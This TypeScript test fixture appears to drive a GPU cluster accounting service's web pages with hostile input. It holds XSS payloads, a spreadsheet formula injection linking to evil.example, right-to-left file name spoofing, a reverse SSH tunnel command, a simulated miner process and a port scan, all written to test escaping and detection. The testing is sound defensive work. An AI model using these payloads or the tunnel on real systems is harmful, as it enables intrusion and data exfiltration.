/**
 * A small site for the pages: the real service in this process, fed through its real API, with text that a hostile
 * workload, scheduler or host could send in every place that holds any. First everything is declared; `divert` then
 * starts what no declaration covers inside the declared job.
 */
import { fileURLToPath } from 'node:url';
import { type App, createApp, createLog } from '../../api/app.ts';
import type { BatchBody, ConnectionFact, PersonalRecord, ProcessFact } from '../../api/contract/batch.ts';
import { canonicalJson, sha256Hex } from '../../api/contract/canonical.ts';
import type { Role } from '../../api/contract/primitives.ts';
import {
  CLUSTER,
  device,
  type HandClock,
  HOUR,
  handClock,
  MINUTE,
  personalOf,
  processFact,
  START,
  Stream,
  tenancy,
} from '../store/site.ts';
import { startCommand, temporaryFolder } from './processes.ts';

const RUN = 'window.__x=1;alert(1)';
const VITE = fileURLToPath(new URL('../../node_modules/vite/bin/vite.js', import.meta.url));
export const HOSTILE = {
  name: `"><script>${RUN}</script>`,
  user: `a'onmouseover=${RUN} x='`,
  account: '=HYPERLINK("http://evil.example/","pay")',
  reversed: `\u202egnp.exe\u2066 ${'x'.repeat(900)}`,
  node: `n2"><img src=x onerror="${RUN}">`,
  model: '<b onclick=alert(1)>H100</b>',
  path: `/tmp/<img src=x onerror="${RUN}">/\u202erenim`,
  comm: '<b>miner</b>',
  message: `<script>${RUN}</script> ${'long '.repeat(60)}`,
} as const;
/** What the foreign executable's path reads like where it is shown whole. */
export const SHOWN_PATH = HOSTILE.path.replace('\u202e', '\\u{202e}');

const [trained, idle] = [device('n1', 0), device('n1', 1)];
const BOOKED_TO = START + 2 * HOUR + 20 * MINUTE;
const CGROUP = '0::/system.slice/slurmstepd.scope/job_7/step_0/user/task_0';
const time = (ms: number): string => new Date(ms).toISOString();
const exe = (path: string) => ({
  path,
  device: '8:1',
  inode: String(path.length),
  deleted: false,
  fileSystem: null,
});

export interface PagesSite {
  readonly url: string;
  readonly clock: HandClock;
  signInLink(): Promise<string>;
  ask(method: string, path: string, body?: unknown): Promise<unknown>;
  /** The next minute: inside job 7 a foreign process computes, with a tunnel and a scan beside it. */
  divert(): Promise<void>;
  /** Two jobs of another scheduler claim the device of job 7: one for an hour that is past, one from then on. */
  contest(): Promise<void>;
  /** Stops the service and starts it again over the same data, at the same address. */
  stopService(): Promise<void>;
  startService(): Promise<void>;
  stop(): Promise<void>;
}

const inJob = (
  pid: number,
  path: string,
  parent: ProcessFact | null,
  personal: PersonalRecord,
): ProcessFact =>
  processFact(pid, {
    cgroup: CGROUP,
    comm: path.split('/').at(-1) ?? path,
    executable: exe(path),
    parent: parent?.key ?? null,
    personal: personal.digest,
    claims: [{ name: 'SLURM_JOB_ID', value: HOSTILE.name }],
  });

const commands = {
  shell: personalOf(HOSTILE.user, `bash -c ${HOSTILE.name}`),
  trainer: personalOf(HOSTILE.user, 'python3 train.py'),
  foreign: personalOf(HOSTILE.user, `${HOSTILE.path} --algo ${HOSTILE.message}`),
  tunnel: personalOf(HOSTILE.user, 'ssh -N -R 2222:localhost:22 u@198.51.100.7'),
} as const;
const shell = inJob(20, '/usr/bin/bash', null, commands.shell);
const trainer = inJob(21, '/usr/bin/python3.11', shell, commands.trainer);
const foreign = {
  ...inJob(22, HOSTILE.path, shell, commands.foreign),
  comm: HOSTILE.comm,
  startedMs: BOOKED_TO,
};
const tunnel = { ...inJob(23, '/usr/bin/ssh', shell, commands.tunnel), startedMs: BOOKED_TO };

function peersRecord(examples: string[]): PersonalRecord {
  const salt = sha256Hex(examples.join(' ')).slice(0, 32);
  const value: PersonalRecord['value'] = { kind: 'connection', peers: examples };
  return { digest: sha256Hex(canonicalJson({ salt, value })), salt, value };
}
const reached = peersRecord(['198.51.100.7:22']);
const tried = peersRecord(['10.20.0.20:22', '10.20.0.21:22', '10.20.0.22:22', '10.20.0.23:22']);

const connection = (of: ProcessFact, more: Partial<ConnectionFact>): ConnectionFact => ({
  process: of.key,
  kind: 'established',
  peerClass: 'external',
  localPort: 41_222,
  firstMs: BOOKED_TO + 5_000,
  lastMs: BOOKED_TO + 50_000,
  peers: 1,
  personal: reached.digest,
  ...more,
});

/** What the agent saw while all was declared: the job computes on one of its two devices. */
function declaredBatches(stream: Stream) {
  const hours = [START, START + HOUR, START + 2 * HOUR];
  return hours.map((fromMs) => {
    const toMs = Math.min(fromMs + HOUR, BOOKED_TO);
    const body: Partial<BatchBody> = {
      inventory: [trained, idle],
      processes: [shell, trainer],
      tenancies: [
        tenancy(trained.uuid, fromMs, toMs - fromMs, trainer),
        tenancy(idle.uuid, fromMs, toMs - fromMs),
      ],
      problems: [{ atMs: toMs - MINUTE, source: 'nvidia-smi', message: HOSTILE.message }],
    };
    return stream.batch(fromMs, toMs, body, [commands.shell, commands.trainer]);
  });
}

const job = (externalId: string, more: Record<string, unknown>) => ({
  ...{ source: 'slurm', externalId, start: time(START), account: HOSTILE.account, user: HOSTILE.user },
  ...more,
});

/** Builds the pages, so that what is tested is what the source says. */
async function buildPages(outDir: string): Promise<void> {
  const args = ['build', 'web', '--outDir', outDir, '--emptyOutDir', '--logLevel', 'error'];
  // As for users: this test's own NODE_ENV would make React's slow build for developers.
  const vite = startCommand(process.execPath, [VITE, ...args], { NODE_ENV: 'production' });
  if ((await vite.ended()) !== 0) throw new Error(vite.output());
}

export async function createPagesSite(): Promise<PagesSite> {
  const temporary = temporaryFolder('pages');
  const pagesFolder = `${temporary.path}/pages`;
  await buildPages(pagesFolder);
  const clock = handClock(BOOKED_TO + 5_000);
  let app: App | null = null;
  let port = 0;
  const start = async (): Promise<App> => {
    const log = createLog('silent');
    const dataFolder = `${temporary.path}/data`;
    app = await createApp({ dataFolder, host: '127.0.0.1', port, clock, log, cluster: CLUSTER, pagesFolder });
    port = Number(new URL((await app.start()).url).port);
    return app;
  };
  const running = (): App => {
    if (app === null) throw new Error('the service is stopped');
    return app;
  };
  await start();
  const url = `http://127.0.0.1:${port}`;
  const tokenFor = async (role: Role, node: string | null): Promise<string> =>
    (await running().services.tokens.create({ name: `${role} ${HOSTILE.name}`, role, node, accounts: null }))
      .text;
  const tokens = { admin: await tokenFor('admin', null), agent: await tokenFor('agent', 'n1') };
  const ask = async (
    method: string,
    path: string,
    body?: unknown,
    token = tokens.admin,
  ): Promise<unknown> => {
    const answer = await fetch(url + path, {
      method,
      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
      ...(body === undefined ? {} : { body: JSON.stringify(body) }),
    });
    const text = await answer.text();
    if (!answer.ok) throw new Error(`${method} ${path}: ${answer.status} ${text}`);
    return JSON.parse(text);
  };

  const stream = new Stream('n1');
  const send = async (batches: unknown[]): Promise<void> => {
    await ask('POST', '/v1/batches', { batches }, tokens.agent);
    await running().attribution.whenIdle();
  };
  await ask('PUT', '/v1/rates', {
    ...{ effectiveFrom: time(START - 24 * HOUR), currency: 'EUR' },
    perGpuHour: { default: '2.50' },
  });
  await ask('PUT', '/v1/fleet', {
    nodes: [
      {
        ...{ node: HOSTILE.node, group: HOSTILE.name, from: time(START) },
        devices: [{ uuid: `GPU-${HOSTILE.model}`, model: HOSTILE.model, index: 0 }],
      },
    ],
  });
  const own = { allocations: [{ node: 'n1' }], executables: ['/usr/bin/python*', '/usr/bin/bash'] };
  await ask('POST', '/v1/jobs', job('7', { ...own, name: HOSTILE.name }));
  const elsewhere = { allocations: [{ node: HOSTILE.node }], executables: [HOSTILE.path] };
  await ask(
    'POST',
    '/v1/jobs',
    job(`8 ${HOSTILE.reversed}`.slice(0, 200), { ...elsewhere, name: HOSTILE.reversed }),
  );
  await send(declaredBatches(stream));
  const completeTo = (ms: number) => ask('PUT', '/v1/sources/slurm/default', { completeTo: time(ms) });
  await completeTo(BOOKED_TO);
  await running().attribution.whenIdle();

  return {
    url,
    clock,
    ask: (method, path, body) => ask(method, path, body),
    signInLink: () => running().signInLink(),
    async divert() {
      const toMs = BOOKED_TO + MINUTE;
      clock.set(toMs + 5_000);
      const processes = [shell, trainer, foreign, tunnel];
      const batch = stream.batch(
        BOOKED_TO,
        toMs,
        {
          processes,
          tenancies: [
            tenancy(trained.uuid, BOOKED_TO, MINUTE, trainer),
            tenancy(idle.uuid, BOOKED_TO, MINUTE, foreign),
          ],
          connections: [
            connection(tunnel, {}),
            connection(foreign, {
              ...{ kind: 'attempt', peerClass: 'internal', localPort: 0, peers: 64, personal: tried.digest },
            }),
          ],
        },
        [...Object.values(commands), reached, tried],
      );
      await completeTo(toMs);
      await send([batch]);
    },
    async contest() {
      const pod = (externalId: string, fromMs: number, toMs: number | null, name: string) => ({
        ...job(externalId, { source: 'kubernetes', name, account: HOSTILE.name }),
        ...{ start: time(fromMs), end: toMs === null ? null : time(toMs) },
        allocations: [{ node: 'n1', devices: [trained.uuid] }],
      });
      await ask('POST', '/v1/jobs', pod('pod-1', START, START + HOUR, HOSTILE.reversed));
      await ask('POST', '/v1/jobs', pod('pod-2', START + 2 * HOUR, null, 'pod-runs'));
      await running().attribution.whenIdle();
    },
    async stopService() {
      await running().stop();
      app = null;
    },
    async startService() {
      await start();
    },
    async stop() {
      await app?.stop();
      temporary.remove();
    },
  };
}
